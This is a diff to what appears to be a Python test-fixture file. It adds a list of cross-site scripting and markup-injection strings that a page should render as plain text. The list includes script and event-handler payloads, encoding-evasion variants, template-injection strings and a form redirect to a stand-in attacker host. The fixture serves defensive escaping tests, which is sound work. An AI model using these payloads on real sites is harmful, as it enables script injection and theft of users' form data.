@@ -210,6 +210,32 @@ MARKUP = (
 )
 """What a library could take for its own notation."""
 
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</style><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "`onclick=alert(1)`",
+    "<!-- ",
+    "--><b>",
+    "<![CDATA[<b>]]>",
+    "&lt;script&gt;",
+    "&#60;b&#62;",
+    "&",
+    "javascript:alert(1)",
+    "</textarea></form><form action=//evil.example>",
+    "<a href=data:text/html,x>",
+    "<\x00script>",
+    "\uff1cscript\uff1e",
+    "+ADw-script+AD4-",
+    "{title}",
+    "{{end.kicked}}",
+    "%(title)s",
+)
+"""What a page could take for its own markup: it is read as it was written, and no element or attribute comes of it."""
+
 # -- rooms and addresses ---------------------------------------------------------------------------------------------
 
 ADDRESSES_THAT_ARE_NONE = (
